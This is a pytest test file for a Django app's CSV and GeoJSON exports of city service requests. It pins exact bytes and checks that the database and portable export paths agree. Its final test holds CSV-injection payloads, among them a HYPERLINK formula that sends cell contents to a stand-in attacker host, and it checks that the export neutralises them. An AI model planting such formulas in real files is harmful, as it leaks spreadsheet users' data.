"""The exports' exact bytes: pinned for awkward values, and the same whichever path writes
them (PostgreSQL's COPY or the portable writers), however the output is cut in pieces."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from reports.insights import export_pg, exports
from reports.models import ServiceRequest
from tests.factories import (
    BoundaryFactory,
    DepartmentFactory,
    ServiceFactory,
    ServiceRequestFactory,
)

pytestmark = pytest.mark.django_db

WHEN = datetime(2026, 11, 25, 10, 28, 23, 999999, tzinfo=UTC)  # whole seconds: truncated
AWKWARD = 'Line one\nline two, "quoted"\r\nend\x01 é ✓ \\ /'


@pytest.fixture
def awkward() -> list[ServiceRequest]:
    """A report with every kind of text a writer can get wrong, a redacted one without a
    point, department or area, and one with a tiny and a negative whole coordinate."""
    works = DepartmentFactory(name="Public Works")
    pothole = ServiceFactory(service_code="pothole", name="Pothole", department=works)
    first = ServiceRequestFactory(
        service=pothole,
        description=AWKWARD,
        status_notes="",
        address="1, Main St",
        zipcode="",
        lat=35.0,
        long=-78.5,
        requested_datetime=WHEN,
        updated_datetime=WHEN,
    )
    second = ServiceRequestFactory(
        service=ServiceFactory(service_code="graffiti", name="Graffiti, tags"),
        department=None,
        area=None,
        description="Rude words",
        description_redacted=True,
        address="",
        lat=None,
        long=None,
        state=ServiceRequest.State.FIXED,
        status_notes='Cleaned; "thanks"',
        requested_datetime=WHEN,
        updated_datetime=datetime(2026, 11, 26, 8, 0, tzinfo=UTC),
        expected_datetime=datetime(2026, 11, 30, 0, 0, 1, tzinfo=UTC),
    )
    third = ServiceRequestFactory(
        service=pothole,
        area=BoundaryFactory(name='Área "North"'),
        lat=1e-05,
        long=-1.0,
        requested_datetime=WHEN,
        updated_datetime=WHEN,
    )
    return [first, second, third]


def portable(fmt: str) -> bytes:
    chunks, _ = exports.FORMATS[fmt]
    return b"".join(chunks(exports.export_rows(ServiceRequest.objects.all())))


def served(client, fmt: str) -> bytes:
    return b"".join(client.get(f"/data/reports.{fmt}").streaming_content)


def test_csv_bytes_are_pinned(client, awkward) -> None:
    first, second, third = (r.pk for r in awkward)
    quoted = AWKWARD.replace('"', '""')
    expected = (
        ",".join(exports.COLUMNS) + "\n"
        f'{first},pothole,Pothole,Public Works,open,new,,"{quoted}",'
        '2026-11-25T10:28:23Z,2026-11-25T10:28:23Z,,,"1, Main St",,35,-78.5,,web\n'
        f'{second},graffiti,"Graffiti, tags",,closed,fixed,"Cleaned; ""thanks""",'
        f"{exports.REDACTED},2026-11-25T10:28:23Z,2026-11-26T08:00:00Z,2026-11-30T00:00:01Z,"
        "2026-11-26T08:00:00Z,,,,,,web\n"
        f'{third},pothole,Pothole,Public Works,open,new,,"Deep pothole in the right lane, '
        'about 40 cm wide.",2026-11-25T10:28:23Z,2026-11-25T10:28:23Z,,,100 Main Street,,'
        '1e-05,-1,"Área ""North""",web\n'
    )
    text = served(client, "csv").decode()
    assert text == expected
    assert portable("csv") == expected.encode()
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][7] == AWKWARD  # a CSV reader gets the text back


def test_geojson_bytes_are_pinned(client, awkward) -> None:
    first, second, _ = (r.pk for r in awkward)
    lines = served(client, "geojson").decode().split("\n")
    assert lines[0] == '{"type":"FeatureCollection","features":['
    assert lines[1] == (
        f'{{"type":"Feature","id":{first},"geometry":{{"type":"Point","coordinates":[-78.5,35]}},'
        f'"properties":{{"service_request_id":{first},"service_code":"pothole",'
        '"service_name":"Pothole","agency_responsible":"Public Works","status":"open",'
        '"state":"new","status_notes":"",'
        '"description":"Line one\\nline two, \\"quoted\\"\\r\\nend\\u0001 é ✓ \\\\ /",'
        '"requested_datetime":"2026-11-25T10:28:23Z","updated_datetime":"2026-11-25T10:28:23Z",'
        '"expected_datetime":null,"closed_datetime":null,"address":"1, Main St","zipcode":"",'
        '"lat":35,"long":-78.5,"area":null,"source":"web"}},'
    )
    assert lines[2] == (
        f'{{"type":"Feature","id":{second},"geometry":null,'
        f'"properties":{{"service_request_id":{second},"service_code":"graffiti",'
        '"service_name":"Graffiti, tags","agency_responsible":null,"status":"closed",'
        '"state":"fixed","status_notes":"Cleaned; \\"thanks\\"",'
        f'"description":"{exports.REDACTED}",'
        '"requested_datetime":"2026-11-25T10:28:23Z","updated_datetime":"2026-11-26T08:00:00Z",'
        '"expected_datetime":"2026-11-30T00:00:01Z","closed_datetime":"2026-11-26T08:00:00Z",'
        '"address":"","zipcode":"","lat":null,"long":null,"area":null,"source":"web"}},'
    )
    assert '"coordinates":[-1,1e-05]' in lines[3]
    assert '"area":"Área \\"North\\""' in lines[3]
    assert lines[4:] == ["]}", ""]
    data = json.loads("\n".join(lines))
    assert data["features"][0]["properties"]["description"] == AWKWARD
    assert portable("geojson") == "\n".join(lines).encode()


@pytest.mark.parametrize("fmt", ["csv", "geojson"])
def test_both_paths_give_the_same_bytes_in_any_pieces(client, monkeypatch, fmt) -> None:
    """On PostgreSQL the served export is COPY's: the same bytes as the portable writers,
    with one row a piece or many (GeoJSON's separators fall between pieces)."""
    ServiceRequestFactory.create_batch(5)
    ServiceRequestFactory(description='A, "b"\nc', zipcode="", lat=None, long=None)
    ServiceRequestFactory(hidden=True)
    expected = portable(fmt)
    assert served(client, fmt) == expected
    monkeypatch.setattr(export_pg, "PIECE", 1)
    monkeypatch.setattr(exports, "BLOCK", 1)
    pieces = list(exports.stream(fmt, ServiceRequest.objects.all()))
    assert len(pieces) >= 6
    assert b"".join(pieces) == expected
    assert portable(fmt) == expected


@pytest.mark.parametrize("fmt", ["csv", "geojson"])
def test_empty_exports_match(client, fmt) -> None:
    assert served(client, fmt) == portable(fmt)


@pytest.mark.parametrize("fmt", ["csv", "geojson"])
def test_export_query_count_does_not_grow_with_rows(client, fmt) -> None:
    ServiceRequestFactory.create_batch(2)
    with CaptureQueriesContext(connection) as few:
        served(client, fmt)
    ServiceRequestFactory.create_batch(10)
    with CaptureQueriesContext(connection) as many:
        served(client, fmt)
    assert len(many.captured_queries) == len(few.captured_queries)


@pytest.mark.skipif(
    connection.vendor != "postgresql", reason="COPY is PostgreSQL's (SQLite has no such path)"
)
def test_copy_path_builds_features_over_rows_in_order() -> None:
    """The features are built over the rows as they are read in id order, not built first
    and then sorted (the planner's choice for the whole expression at a million rows): the
    first byte must not wait for the whole export."""
    rows, params = export_pg._rows_sql(ServiceRequest.objects.all(), for_json=True)
    with connection.cursor() as cursor:
        cursor.execute("EXPLAIN " + export_pg.feature_sql(rows), params)
        plan = "\n".join(line for (line,) in cursor.fetchall())
    assert plan.startswith("Subquery Scan on r")  # no Sort above it
    assert "json_build_object" not in export_pg.feature_sql(rows)


@pytest.mark.skipif(
    connection.vendor != "postgresql", reason="COPY is PostgreSQL's (SQLite has no such path)"
)
@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("fmt", ["csv", "geojson"])
def test_abandoned_export_cancels_the_copy(monkeypatch, fmt) -> None:
    """A client that hangs up: the COPY is cancelled (not read to its end) and the
    connection is left ready for the next request."""
    ServiceRequestFactory.create_batch(3)
    monkeypatch.setattr(export_pg, "PIECE", 1)
    cancelled = []
    monkeypatch.setattr(export_pg, "_stop", lambda conn: cancelled.append(conn.cancel_safe()))
    pieces = exports.stream(fmt, ServiceRequest.objects.all())
    next(pieces)
    next(pieces)
    pieces.close()
    assert len(cancelled) == 1
    assert ServiceRequest.objects.count() == 3


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2,"photo")', "+1+1", "-2+3", "@SUM(A1)", "\tx"]


def test_texts_a_spreadsheet_would_run_get_an_apostrophe_in_csv_only(client) -> None:
    """A citizen's or the city's text that starts a formula (CSV injection) reaches a
    spreadsheet as text, on both paths; GeoJSON keeps it as given, as do numbers in CSV."""
    for text in FORMULAS:
        ServiceRequestFactory(description=text, address=text, lat=35.0, long=-78.5)
    ServiceRequestFactory(description="A plain one = fine", address="")

    served_csv = served(client, "csv")
    assert portable("csv") == served_csv
    rows = list(csv.DictReader(io.StringIO(served_csv.decode())))
    assert [row["description"] for row in rows] == [f"'{text}" for text in FORMULAS] + [
        "A plain one = fine"
    ]
    assert [row["address"] for row in rows[:-1]] == [f"'{text}" for text in FORMULAS]
    assert rows[-1]["address"] == "" and {row["long"] for row in rows[:-1]} == {"-78.5"}
    features = json.loads(served(client, "geojson"))["features"]
    assert [f["properties"]["description"] for f in features[:-1]] == FORMULAS
